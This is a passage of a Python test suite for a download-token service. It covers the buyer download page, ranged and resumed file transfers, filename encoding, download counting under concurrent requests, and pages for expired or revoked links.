"""The buyer's side of a token: the download page, file transfers, and what they spend.

Covers the page (HTML and JSON), HEAD, link-preview bots (and chat apps'
in-app browsers, which are buyers, not bots), whole-file and ranged GETs
(If-Range, 416, resume, empty files, non-ASCII names) on local and S3
storage, how downloads are counted (sessions by client, by the page cookie,
by the hours a session lasts, and under races of 100 concurrent requests),
expired / revoked / unknown tokens, the CSV downloads report (rows, bytes,
files, day filters, formula neutralizing), and presigned S3 redirects.
Everything goes through HTTP, on SQLite and PostgreSQL; products are put on
sale through the upload API by :mod:`tests.support.catalog`.
"""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import email.message
import email.utils
import hashlib
import html
import io
import random
import re
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime, timedelta, timezone
from urllib.parse import quote, unquote

import httpx
import pytest
from litestar import Litestar

from hub.pages import breakable
from hub.plugins.hookspecs import hookimpl
from hub.services.downloads import covers
from hub.settings import Settings
from hub.tables import DownloadSession, DownloadToken, Event, Organization
from hub.testing.app import make_app
from hub.web.downloads import expires_text
from tests.conftest import PUBLIC_URL, Org, fails, ok
from tests.support.catalog import Delivery, mint, sell

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
SLACKBOT = "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"


def payload(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


KICK = payload(1_500_000, 1)  # more than one 1 MiB streaming chunk
SNARE = payload(300_000, 2)
README = b"Thanks for buying Epic Drum Kit! 42 bytes."
PACK = {"Kicks/kick 01.wav": KICK, "Snares/snare.wav": SNARE, "README.txt": README}

both_storages = pytest.mark.parametrize("storage", ["local", "s3"])


# --- fixtures and helpers ----------------------------------------------------------


@pytest.fixture
def download_redirect() -> bool:
    """Parametrize to ``True`` to answer file GETs with presigned redirects."""
    return False


@pytest.fixture
def admin_email() -> str:
    """Parametrize to set ``HUB_ADMIN_EMAIL``."""
    return ""


@pytest.fixture
def settings(settings: Settings, download_redirect: bool, admin_email: str) -> Settings:
    return dataclasses.replace(settings, download_redirect=download_redirect, admin_email=admin_email)


class DownloadListener:
    """A plugin listening to ``download_finished``: its events are stored."""

    @hookimpl
    def download_finished(self, hub, token, file, bytes_sent, completed):
        pass


@pytest.fixture
def listening() -> bool:
    """Parametrize to ``True`` to run the app with :class:`DownloadListener`."""
    return False


@pytest.fixture
async def app(settings: Settings, listening: bool) -> Litestar:
    return make_app(settings, plugins=[("listener", DownloadListener())] if listening else [])


async def finished_events() -> list[tuple[str, int, bool]]:
    """The stored ``download_finished`` events: (file path, bytes sent, completed)."""
    rows = await Event.select(Event.payload).where(Event.type == "download_finished").output(load_json=True)
    return sorted((r["payload"]["file"]["path"], r["payload"]["bytes_sent"], r["payload"]["completed"]) for r in rows)


Visitor = Callable[..., httpx.AsyncClient]


@pytest.fixture
async def visitor(app: Litestar, client: httpx.AsyncClient) -> AsyncIterator[Visitor]:
    """Make a buyer's HTTP client: its own cookie jar, User-Agent and IP address."""
    opened: list[httpx.AsyncClient] = []

    def make(user_agent: str = BROWSER, ip: str = "198.51.100.20") -> httpx.AsyncClient:
        buyer = httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app, client=(ip, 51000)),
            base_url=PUBLIC_URL,
            headers={"User-Agent": user_agent},
        )
        opened.append(buyer)
        return buyer

    yield make
    for buyer in opened:
        await buyer.aclose()


async def used_count(client: httpx.AsyncClient, org: Org, delivery: Delivery) -> int:
    """The token's usedCount as the shop sees it through the API."""
    tokens = ok(await client.get(f"/api/products/{delivery.product_id}/tokens", headers=org.viewer))["tokens"]
    return next(t["usedCount"] for t in tokens if t["id"] == delivery.token_id)


async def report(client: httpx.AsyncClient, org: Org, **params: str) -> list[dict[str, str]]:
    response = await client.get("/api/reports/downloads", params=params, headers=org.admin)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def etag_of(data: bytes) -> str:
    return f'"{sha256(data)[:32]}"'


def error_page(response: httpx.Response, status: int, *fragments: str) -> str:
    """Assert a download error answered as an HTML page for people."""
    assert response.status_code == status, f"{response.status_code}: {response.text}"
    assert response.headers["content-type"].startswith("text/html")
    text = html.unescape(response.text)
    for fragment in fragments:
        assert fragment in text, f"{fragment!r} not in the page"
    assert "Traceback" not in text
    return text


# --- the download page ----------------------------------------------------------


@pytest.mark.parametrize("fast_lanes", [True, False])
async def test_download_page_lists_each_file_with_its_size_and_a_link(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=3)
    buyer = visitor()

    page = await buyer.get(delivery.download_url, headers={"Accept": "text/html"})

    assert page.status_code == 200
    assert page.headers["content-type"].startswith("text/html")
    assert page.headers["cache-control"] == "no-store"
    assert page.headers["x-robots-tag"] == "noindex"
    assert page.headers["referrer-policy"] == "no-referrer"
    text = page.text
    assert "Epic Drum Kit" in text and "Version 1.0.0" in text
    assert "Downloads left <strong>3</strong> of 3" in text
    for path, size in [("Kicks/kick 01.wav", "1.5 MB"), ("Snares/snare.wav", "300.0 KB"), ("README.txt", "42 bytes")]:
        row = re.search(
            rf'<span class="file-name">{re.escape(breakable(path))}</span>\s*<span class="file-size">{re.escape(size)}</span>\s*'
            rf'<a class="button" href="([^"]+)"',
            text,
        )
        assert row, f"no row for {path} ({size})"
        assert html.unescape(row.group(1)) == delivery.url(path)
    assert re.fullmatch(
        rf"{PUBLIC_URL}/download/files/file_\w+/kick%2001\.wav\?token={re.escape(delivery.secret)}",
        delivery.url("Kicks/kick 01.wav"),
    )
    # The page hands the browser a session cookie scoped to the download pages.
    cookie = page.headers["set-cookie"]
    assert cookie.startswith("ct_dl=") and "Path=/download" in cookie and "HttpOnly" in cookie


@pytest.mark.parametrize("fast_lanes", [True, False])
async def test_download_page_as_json_describes_the_token_and_its_files(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=5)

    response = await visitor().get(delivery.download_url, headers={"Accept": "application/json"})

    page = ok(response)
    assert response.headers["cache-control"] == "no-store"
    assert page["product"] == {"id": "epic-drums", "name": "Epic Drum Kit", "version": "1.0.0"}
    assert page["maxDownloads"] == 5 and page["usedCount"] == 0 and page["downloadsLeft"] == 5
    assert page["expiresAt"] == delivery.token["expiresAt"]
    files = {f["path"]: f for f in page["files"]}
    assert set(files) == set(PACK)
    for path, data in PACK.items():
        assert files[path]["size"] == len(data)
        assert files[path]["sha256"] == sha256(data)
        assert files[path]["url"].startswith(f"{PUBLIC_URL}/download/files/{files[path]['id']}/")


@both_storages
async def test_opening_the_page_and_head_requests_spend_nothing(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=1)
    buyer = visitor()

    for _ in range(5):
        assert (await buyer.get(delivery.download_url)).status_code == 200
        assert (await buyer.get(delivery.download_url, headers={"Accept": "application/json"})).status_code == 200
    for path, data in PACK.items():
        head = await buyer.head(delivery.url(path))
        assert head.status_code == 200
        assert head.content == b""
        assert int(head.headers["content-length"]) == len(data)
        assert head.headers["accept-ranges"] == "bytes"
        assert head.headers["etag"] == etag_of(data)
    partial = await buyer.head(delivery.url("Kicks/kick 01.wav"), headers={"Range": "bytes=0-9"})
    assert partial.status_code == 206 and partial.headers["content-range"] == f"bytes 0-9/{len(KICK)}"

    page = ok(await visitor().get(delivery.download_url, headers={"Accept": "application/json"}))
    assert page["usedCount"] == 0 and page["downloadsLeft"] == 1
    assert await report(client, org) == []


@pytest.mark.parametrize(
    "bot",
    [
        SLACKBOT,
        "facebookexternalhit/1.1;line-poker/1.0",
        "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com",
        "WhatsApp/2.23.20.0 A",
        "TelegramBot (like TwitterBot)",
        "Snap URL Preview Service; bot; snapchat_proxy/1.0",
        "Mattermost-Bot/1.1",
    ],
)
async def test_link_preview_bot_on_a_file_link_is_sent_to_the_page_and_spends_nothing(client, org, visitor, bot):
    delivery = await sell(client, org.member, PACK, max_downloads=1)

    response = await visitor(user_agent=bot).get(delivery.url("README.txt"))

    assert response.status_code == 303
    assert response.headers["location"] == f"/download?token={delivery.secret}"
    assert response.content != README
    assert await used_count(client, org, delivery) == 0
    assert await report(client, org) == []
    # The buyer's own click still gets the file.
    assert (await visitor().get(delivery.url("README.txt"))).content == README


@pytest.mark.parametrize(
    "in_app_browser",
    [
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Mobile/15E148 Safari Line/13.8.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Mobile/15E148 Snapchat/12.12.0.33 (like Safari/8614.2.9.0.8, panda)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Teams/1.6.00.4472 "
        "Chrome/98.0.4758.141 Electron/17.4.7 Safari/537.36",
    ],
    ids=["line", "snapchat", "teams"],
)
async def test_a_buyer_in_a_chat_apps_own_browser_gets_the_file(client, org, visitor, in_app_browser):
    delivery = await sell(client, org.member, PACK, max_downloads=1)

    response = await visitor(user_agent=in_app_browser).get(delivery.url("README.txt"))

    assert response.status_code == 200 and response.content == README
    assert await used_count(client, org, delivery) == 1


# --- file transfers -----------------------------------------------------------


@both_storages
async def test_file_download_sends_the_whole_file_with_its_headers(client, org, visitor):
    delivery = await sell(client, org.member, PACK)

    response = await visitor().get(delivery.url("Kicks/kick 01.wav"))

    assert response.status_code == 200
    assert response.content == KICK
    assert response.headers["content-length"] == str(len(KICK))
    assert response.headers["content-type"] == "application/octet-stream"
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"Kicks - kick 01.wav\"; filename*=UTF-8''Kicks%20-%20kick%2001.wav"
    )
    assert response.headers["etag"] == etag_of(KICK)
    assert response.headers["accept-ranges"] == "bytes"
    assert "last-modified" in response.headers
    assert "content-range" not in response.headers


@both_storages
async def test_non_ascii_filename_survives_in_content_disposition(client, org, visitor):
    name = "Grüße – Kick 🥁.wav"
    files = {f"Ünïcødé/{name}": b"\x00\x01 kick"}
    delivery = await sell(client, org.member, files)

    response = await visitor().get(delivery.url(f"Ünïcødé/{name}"))

    assert response.content == b"\x00\x01 kick"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment; ")
    fallback = re.search(r'filename="([^"]*)"', disposition).group(1)
    assert fallback.isascii() and fallback.endswith(".wav") and fallback.startswith("_n_c_d_ - Gr")
    encoded = re.search(r"filename\*=UTF-8''([^;\s]+)", disposition).group(1)
    assert unquote(encoded, encoding="utf-8") == f"Ünïcødé - {name}"  # the folder kept in the saved name
    assert delivery.url(f"Ünïcødé/{name}").split("?")[0].endswith("/" + quote(name))


def disposition_names(header: str) -> tuple[str, str]:
    """A Content-Disposition's ``filename`` (what ``curl -OJ`` and older
    clients save as) and its decoded ``filename*`` (what browsers save as),
    parsed by the standard library's RFC 2231 reader."""
    message = email.message.Message()
    message["Content-Disposition"] = header
    params = message.get_params(header="content-disposition")
    assert params[0] == ("attachment", "")
    plain = [value for name, value in params if name == "filename" and isinstance(value, str)]
    extended = [value for name, value in params if name == "filename" and isinstance(value, tuple)]
    assert len(plain) == 1 and len(extended) == 1, params
    assert extended[0][0] == "UTF-8"
    return plain[0], email.utils.collapse_rfc2231_value(extended[0])


FOLDERED = {
    "Drums/Kicks/Kick_01.wav": b"kick",
    "Cymbals/Crash_01.wav": b"first crash",
    "FX/Crash_01.wav": b"second crash",
    "Ünïcødé Ördner/Grüße.wav": b"umlauts",
    'Say "hi"; then/a;b "c".wav': b"quotes",
    "README.txt": b"read me",
}
SAVED_AS = {
    # path: (the plain ASCII filename, the filename* a browser saves)
    "Drums/Kicks/Kick_01.wav": ("Drums - Kicks - Kick_01.wav", "Drums - Kicks - Kick_01.wav"),
    "Cymbals/Crash_01.wav": ("Cymbals - Crash_01.wav", "Cymbals - Crash_01.wav"),
    "FX/Crash_01.wav": ("FX - Crash_01.wav", "FX - Crash_01.wav"),
    "Ünïcødé Ördner/Grüße.wav": ("_n_c_d_ _rdner - Gr__e.wav", "Ünïcødé Ördner - Grüße.wav"),
    'Say "hi"; then/a;b "c".wav': ("Say _hi_; then - a;b _c_.wav", 'Say "hi"; then - a;b "c".wav'),
    "README.txt": ("README.txt", "README.txt"),
}


@pytest.mark.parametrize(("storage", "download_redirect"), [("local", False), ("s3", True)])
async def test_a_single_file_is_saved_with_its_folders_in_its_name(client, org, visitor, download_redirect):
    delivery = await sell(client, org.member, FOLDERED)
    buyer = visitor()

    saved = {}
    for path, data in FOLDERED.items():
        response = await buyer.get(delivery.url(path))
        if download_redirect:  # the presigned S3 URL carries the header for S3 to answer with
            assert response.status_code == 302
            async with httpx.AsyncClient() as s3:
                response = await s3.get(response.headers["location"])
        assert response.status_code == 200 and response.content == data
        saved[path] = disposition_names(response.headers["content-disposition"])

    assert saved == SAVED_AS
    # Two files of one name in two folders no longer land on one name.
    assert len({plain for plain, _ in saved.values()}) == len({full for _, full in saved.values()}) == len(FOLDERED)
    # curl -OJ keeps what follows the last slash of the plain name: all of it.
    assert all("/" not in plain and "\\" not in plain and plain.isascii() for plain, _ in saved.values())


@both_storages
@pytest.mark.parametrize(
    ("header", "start", "end"),
    [
        ("bytes=0-99", 0, 99),
        ("bytes=1000-1999", 1000, 1999),
        ("bytes=1200000-", 1_200_000, 1_499_999),
        ("bytes=-500", 1_499_500, 1_499_999),
        ("bytes=1499990-99999999", 1_499_990, 1_499_999),  # the end is clamped to the last byte
        ("bytes=-9999999", 0, 1_499_999),  # a suffix longer than the file is the whole file
    ],
)
async def test_range_request_sends_exactly_the_bytes_asked_for(client, org, visitor, header, start, end):
    delivery = await sell(client, org.member, PACK)

    response = await visitor().get(delivery.url("Kicks/kick 01.wav"), headers={"Range": header})

    assert response.status_code == 206
    assert response.content == KICK[start : end + 1]
    assert response.headers["content-range"] == f"bytes {start}-{end}/{len(KICK)}"
    assert response.headers["content-length"] == str(end - start + 1)
    assert response.headers["etag"] == etag_of(KICK)


@pytest.mark.parametrize("header", ["bytes=1500000-", "bytes=9999999-10000000", "bytes=-0"])
async def test_unsatisfiable_range_is_416_with_the_size_and_spends_nothing(client, org, visitor, header):
    delivery = await sell(client, org.member, PACK, max_downloads=1)

    response = await visitor().get(delivery.url("Kicks/kick 01.wav"), headers={"Range": header})

    fails(response, 416, "1500000 bytes")
    assert response.headers["content-range"] == f"bytes */{len(KICK)}"
    assert await used_count(client, org, delivery) == 0
    assert await report(client, org) == []


async def test_malformed_or_multiple_ranges_get_the_whole_file(client, org, visitor):
    delivery = await sell(client, org.member, PACK)
    buyer = visitor()

    for header in ["bytes=abc", "bytes=99-10", "items=0-5", "bytes=0-1,5-9"]:
        response = await buyer.get(delivery.url("README.txt"), headers={"Range": header})
        assert response.status_code == 200, header
        assert response.content == README


@both_storages
async def test_if_range_with_the_current_etag_resumes_and_a_stale_one_restarts(client, org, visitor):
    delivery = await sell(client, org.member, PACK)
    buyer = visitor()
    first = await buyer.get(delivery.url("Snares/snare.wav"), headers={"Range": "bytes=0-999"})
    etag, last_modified = first.headers["etag"], first.headers["last-modified"]

    resumed = await buyer.get(delivery.url("Snares/snare.wav"), headers={"Range": "bytes=1000-", "If-Range": etag})
    assert resumed.status_code == 206
    assert first.content + resumed.content == SNARE

    by_date = await buyer.get(
        delivery.url("Snares/snare.wav"), headers={"Range": "bytes=1000-", "If-Range": last_modified}
    )
    assert by_date.status_code == 206 and by_date.content == SNARE[1000:]

    for stale in ['"' + "0" * 32 + '"', "W/" + etag, "Mon, 01 Jan 2001 00:00:00 GMT"]:
        restarted = await buyer.get(delivery.url("Snares/snare.wav"), headers={"Range": "bytes=1000-", "If-Range": stale})
        assert restarted.status_code == 200, stale
        assert restarted.content == SNARE
        assert "content-range" not in restarted.headers


@both_storages
async def test_interrupted_download_resumes_from_the_offset_without_spending_another(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=1)
    buyer = visitor()
    half = len(KICK) // 2

    first = await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes=0-{half - 1}"})
    rest = await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes={half}-"})

    assert (first.status_code, rest.status_code) == (206, 206)
    assert len(first.content) == half
    assert sha256(first.content + rest.content) == sha256(KICK)
    assert await used_count(client, org, delivery) == 1
    [row] = await report(client, org)
    assert int(row["bytes_sent"]) == len(KICK)


@both_storages
async def test_empty_file_downloads_as_zero_bytes(client, org, visitor):
    files = {"LICENSE-EMPTY.txt": b"", "README.txt": README}
    delivery = await sell(client, org.member, files, max_downloads=1)
    buyer = visitor()

    response = await buyer.get(delivery.url("LICENSE-EMPTY.txt"))

    assert response.status_code == 200
    assert response.content == b""
    assert response.headers["content-length"] == "0"
    assert response.headers["etag"] == etag_of(b"")
    ranged = await buyer.get(delivery.url("LICENSE-EMPTY.txt"), headers={"Range": "bytes=0-"})
    assert ranged.status_code == 416 and ranged.headers["content-range"] == "bytes */0"
    assert (await buyer.get(delivery.url("README.txt"))).content == README
    assert await used_count(client, org, delivery) == 1


async def test_file_of_another_version_or_an_unknown_file_is_404(client, org, visitor):
    delivery = await sell(client, org.member, PACK)
    other = await sell(client, org.member, {"other.bin": b"other"}, slug="other-kit", name="Other Kit")
    buyer = visitor()

    # A file id of another product's version, with this token: not part of this download.
    foreign = other.url("other.bin").replace(f"token={other.secret}", f"token={delivery.secret}")
    fails(await buyer.get(foreign), 404, "not part of this download")
    fails(await buyer.get(f"{PUBLIC_URL}/download/files/file_nope/x.bin?token={delivery.secret}"), 404)
    assert await used_count(client, org, delivery) == 0


# --- counting downloads ---------------------------------------------------------


async def test_one_client_downloading_every_file_and_resuming_spends_one_download(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=2)
    buyer = visitor(user_agent="curl/8.5.0")

    for path, data in PACK.items():
        assert (await buyer.get(delivery.url(path))).content == data
    for offset in (100, 1000, 700_000, 1_499_999):
        resumed = await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes={offset}-"})
        assert resumed.status_code == 206 and resumed.content == KICK[offset:]
    assert (await buyer.get(delivery.url("README.txt"))).content == README

    assert await used_count(client, org, delivery) == 1
    assert len(await report(client, org)) == 1


async def test_second_client_spends_the_second_download_and_a_third_is_refused(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=2)
    first, second, third = visitor(user_agent="curl/8.5.0"), visitor(user_agent="Wget/1.21.4"), visitor(user_agent="aria2/1.37")

    assert (await first.get(delivery.url("README.txt"))).content == README
    assert await used_count(client, org, delivery) == 1
    assert (await second.get(delivery.url("Snares/snare.wav"))).content == SNARE
    assert await used_count(client, org, delivery) == 2

    refused = await third.get(delivery.url("README.txt"))
    fails(refused, 403, "maximum number of times (2)")
    assert refused.content != README
    error_page(
        await third.get(delivery.url("README.txt"), headers={"Accept": "text/html"}),
        403,
        "No downloads left on this link",
        "maximum number of times (2)",
    )
    error_page(await third.get(delivery.download_url, headers={"Accept": "text/html"}), 403, "No downloads left")
    fails(await third.get(delivery.download_url, headers={"Accept": "application/json"}), 403, "maximum number")

    # The clients that spent the downloads keep their sessions: they can still fetch and resume.
    assert (await first.get(delivery.url("Kicks/kick 01.wav"))).content == KICK
    assert (await second.get(delivery.url("README.txt"), headers={"Range": "bytes=5-"})).content == README[5:]
    assert (await first.get(delivery.download_url)).status_code == 200
    assert await used_count(client, org, delivery) == 2
    assert len(await report(client, org)) == 2


async def test_head_answers_403_like_get_once_the_downloads_are_used_up(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=1)
    spender, latecomer = visitor(user_agent="curl/8.5.0"), visitor(user_agent="Wget/1.21.4")
    assert (await spender.get(delivery.url("README.txt"))).content == README

    assert (await latecomer.head(delivery.url("README.txt"))).status_code == 403
    assert (await latecomer.get(delivery.url("README.txt"))).status_code == 403
    still_served = await spender.head(delivery.url("Snares/snare.wav"))
    assert still_served.status_code == 200 and still_served.headers["content-length"] == str(len(SNARE))
    assert await used_count(client, org, delivery) == 1


async def test_a_session_ends_after_its_hours_and_the_next_transfer_spends_again(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=2)
    buyer = visitor(user_agent="curl/8.5.0")
    assert (await buyer.get(delivery.url("README.txt"))).content == README
    # 25 hours later (HUB_DOWNLOAD_SESSION_HOURS is 24):
    await DownloadSession.update({DownloadSession.started_at: datetime.now(UTC) - timedelta(hours=25)}).where(
        DownloadSession.token == delivery.token_id
    )

    assert (await buyer.get(delivery.url("README.txt"), headers={"Range": "bytes=10-"})).content == README[10:]

    assert await used_count(client, org, delivery) == 2
    assert len(await report(client, org)) == 2


async def test_unlimited_token_counts_every_session_and_refuses_none(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=None)

    for n in range(4):
        assert (await visitor(user_agent=f"client/{n}").get(delivery.url("README.txt"))).content == README

    assert await used_count(client, org, delivery) == 4
    page = ok(await visitor().get(delivery.download_url, headers={"Accept": "application/json"}))
    assert (page["maxDownloads"], page["usedCount"], page["downloadsLeft"]) == (None, 4, None)
    assert "Downloads <strong>unlimited</strong>" in (await visitor().get(delivery.download_url)).text


async def test_page_cookie_groups_a_browsers_requests_into_one_session(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=2)
    browser = visitor(user_agent=BROWSER, ip="198.51.100.20")
    page = await browser.get(delivery.download_url)
    session_cookie = page.cookies["ct_dl"]

    assert (await browser.get(delivery.url("README.txt"))).content == README
    # The same browser on another network (new IP) and after an update (new User-Agent):
    # the cookie still identifies its session.
    moved = visitor(user_agent=BROWSER.replace("128.0", "129.0"), ip="192.0.2.99")
    moved.cookies.set("ct_dl", session_cookie, domain="hub.test", path="/download")
    assert (await moved.get(delivery.url("Snares/snare.wav"))).content == SNARE
    assert await used_count(client, org, delivery) == 1

    # Without the cookie, the same IP and User-Agent is a new client: a second session.
    assert (await visitor(user_agent=BROWSER, ip="198.51.100.20").get(delivery.url("README.txt"))).content == README
    assert await used_count(client, org, delivery) == 2
    rows = await report(client, org)
    assert sorted(int(r["bytes_sent"]) for r in rows) == sorted([len(README) + len(SNARE), len(README)])


async def test_a_file_fetched_before_the_page_and_one_with_its_cookie_spend_one_download(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=1)
    browser = visitor(user_agent=BROWSER, ip="198.51.100.20")

    # A mail client's preview (same address, same browser) opens a file link first, without a cookie.
    assert (await browser.get(delivery.url("README.txt"))).content == README
    page = await browser.get(delivery.download_url)
    assert page.status_code == 200 and "ct_dl" in page.cookies
    second = await browser.get(delivery.url("Snares/snare.wav"))  # now with the page's cookie

    assert second.status_code == 200 and second.content == SNARE
    assert await used_count(client, org, delivery) == 1
    [row] = await report(client, org)
    assert row["files"] == "2" and int(row["bytes_sent"]) == len(README) + len(SNARE)
    # The cookie owns the session now; another browser's cookie on that address does not.
    other = visitor(user_agent=BROWSER, ip="198.51.100.20")
    other.cookies.set("ct_dl", "another-browser", domain="hub.test", path="/download")
    assert (await other.get(delivery.url("README.txt"))).status_code == 403


@pytest.mark.parametrize("max_downloads", [1, 3])
async def test_concurrent_downloads_let_exactly_max_downloads_through(client, org, visitor, max_downloads):
    delivery = await sell(client, org.member, {"loop.wav": SNARE}, max_downloads=max_downloads)
    crowd = visitor(user_agent="ignored")
    url = delivery.url("loop.wav")

    responses = await asyncio.gather(
        *(crowd.get(url, headers={"User-Agent": f"Downloader/{n}"}) for n in range(100))
    )

    served = [r for r in responses if r.status_code == 200]
    refused = [r for r in responses if r.status_code != 200]
    assert len(served) == max_downloads
    assert all(r.content == SNARE for r in served)
    assert {r.status_code for r in refused} == {403}
    assert all(r.json() == {"success": False, "error": refused[0].json()["error"]} for r in refused)
    assert await used_count(client, org, delivery) == max_downloads
    rows = await report(client, org)
    assert len(rows) == max_downloads
    assert all(int(r["bytes_sent"]) == len(SNARE) for r in rows)


async def test_concurrent_clients_each_firing_several_requests_get_all_or_nothing(client, org, visitor):
    delivery = await sell(client, org.member, {"loop.wav": SNARE, "README.txt": README}, max_downloads=3)
    crowd = visitor(user_agent="ignored")
    requests = [(n, path) for n in range(25) for path in ("loop.wav", "README.txt", "loop.wav", "README.txt")]

    responses = await asyncio.gather(
        *(crowd.get(delivery.url(path), headers={"User-Agent": f"Downloader/{n}"}) for n, path in requests)
    )

    outcome: dict[int, set[int]] = {}
    for (n, path), response in zip(requests, responses, strict=True):
        outcome.setdefault(n, set()).add(response.status_code)
        if response.status_code == 200:
            assert response.content == delivery.files[path]
    winners = [n for n, statuses in outcome.items() if statuses == {200}]
    assert len(winners) == 3
    assert all(statuses == {403} for n, statuses in outcome.items() if n not in winners)
    assert await used_count(client, org, delivery) == 3
    rows = await report(client, org)
    assert sorted(r["user_agent"] for r in rows) == sorted(f"Downloader/{n}" for n in winners)
    assert all(r["files"] == "2" for r in rows)


async def test_concurrent_requests_of_one_client_spend_one_download(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=5)
    buyer = visitor(user_agent="DownloadManager/7")
    third = len(KICK) // 3
    ranges = [f"bytes={i * third}-{(i + 1) * third - 1}" for i in range(2)] + [f"bytes={2 * third}-"]

    responses = await asyncio.gather(
        *(buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": r}) for r in ranges * 7)
    )

    assert [r.status_code for r in responses] == [206] * 21
    assert b"".join(r.content for r in responses[:3]) == KICK
    assert await used_count(client, org, delivery) == 1
    assert len(await report(client, org)) == 1


# --- tokens that no longer work ----------------------------------------------------


async def test_expired_token_is_410_as_json_and_as_a_page(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=3)
    await DownloadToken.update({DownloadToken.expires_at: datetime.now(UTC) - timedelta(seconds=1)}).where(
        DownloadToken.id == delivery.token_id
    )
    buyer = visitor()

    fails(await buyer.get(delivery.download_url, headers={"Accept": "application/json"}), 410, "expired")
    error_page(await buyer.get(delivery.download_url), 410, "This download link no longer works", "expired")
    fails(await buyer.get(delivery.url("README.txt")), 410, "expired")
    error_page(await buyer.get(delivery.url("README.txt"), headers={"Accept": "text/html"}), 410, "expired")
    assert await used_count(client, org, delivery) == 0


async def test_token_expires_at_the_time_the_shop_chose(client, org, visitor):
    # The product is made first, so that the few seconds of the link's life
    # are not spent uploading on a busy machine.
    first = await sell(client, org.member, PACK)
    expires_at = datetime.now(UTC) + timedelta(seconds=3)
    delivery = await mint(client, org.member, first.product_id, PACK, expires_at=expires_at)
    buyer = visitor()
    assert (await buyer.get(delivery.url("README.txt"))).content == README

    await asyncio.sleep((expires_at - datetime.now(UTC)).total_seconds() + 0.2)

    fails(await buyer.get(delivery.url("README.txt")), 410, "expired")


async def test_revoked_token_is_410_and_an_open_session_ends_with_it(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=3)
    buyer = visitor()
    assert (await buyer.get(delivery.url("README.txt"))).content == README
    revoke = f"/api/products/{delivery.product_id}/tokens/{delivery.token_id}"

    fails(await client.delete(revoke, headers=org.member), 403, "admin")
    assert ok(await client.delete(revoke, headers=org.admin))["token"]["revoked"] is True

    fails(await buyer.get(delivery.url("README.txt")), 410, "revoked")
    fails(await buyer.get(delivery.download_url, headers={"Accept": "application/json"}), 410, "revoked")
    error_page(await buyer.get(delivery.download_url), 410, "This download link no longer works", "revoked")
    assert await used_count(client, org, delivery) == 1


@pytest.mark.parametrize(
    ("contact_email", "admin_email", "written_to"),
    [
        ("help@drums.example", "ops@hub.example", "help@drums.example"),  # the shop's own address first
        ("", "ops@hub.example", "ops@hub.example"),  # else the one the hub knows
        ("", "", None),  # else none: /my alone
    ],
    ids=["shop-email", "hub-email", "no-email"],
)
async def test_a_link_that_no_longer_works_names_the_shop_says_what_happened_and_points_to_my(
    client, org, visitor, contact_email, written_to
):
    await Organization.update({Organization.name: "Epic Drums Shop", Organization.contact_email: contact_email}).where(
        Organization.id == org.id
    )
    expired = await sell(client, org.member, PACK)
    ended = datetime.now(UTC) - timedelta(minutes=5)
    await DownloadToken.update({DownloadToken.expires_at: ended}).where(DownloadToken.id == expired.token_id)
    revoked = await mint(client, org.member, "epic-drums", PACK)
    ok(await client.delete(f"/api/products/epic-drums/tokens/{revoked.token_id}", headers=org.admin))
    used_up = await mint(client, org.member, "epic-drums", PACK, max_downloads=1)
    assert (await visitor(ip="198.51.100.1").get(used_up.url("README.txt"))).content == README
    buyer = visitor()

    pages = {
        "expired": error_page(await buyer.get(expired.download_url), 410, "expired", f"expired on {expires_text(ended)}"),
        "revoked": error_page(await buyer.get(revoked.download_url), 410, "revoked", "switched this download link off"),
        "used up": error_page(await buyer.get(used_up.download_url), 403, "used for every download it allows"),
        # A file link opened in a browser says the same.
        "expired file": error_page(await buyer.get(expired.url("README.txt"), headers={"Accept": "text/html"}), 410, "expired"),
    }

    for state, page in pages.items():
        assert "Epic Drums Shop" in page, state
        assert f'<a href="{PUBLIC_URL}/my">' in html.unescape(page), state
        assert "copied the whole link" not in page, state
        if written_to:
            assert f'<a href="mailto:{written_to}">{written_to}</a>' in page, state
        else:
            assert "mailto:" not in page, state
    # Programs get the same answer as before.
    assert (await buyer.get(revoked.download_url, headers={"Accept": "application/json"})).json() == {
        "success": False, "error": "This download link has been revoked."
    }
    assert await used_count(client, org, expired) == 0


@pytest.mark.parametrize(
    "query", ["?token=ct_download_" + "x" * 43, "?token=something-else", "?token=", "", "?token=ct_download_" + "y" * 500]
)
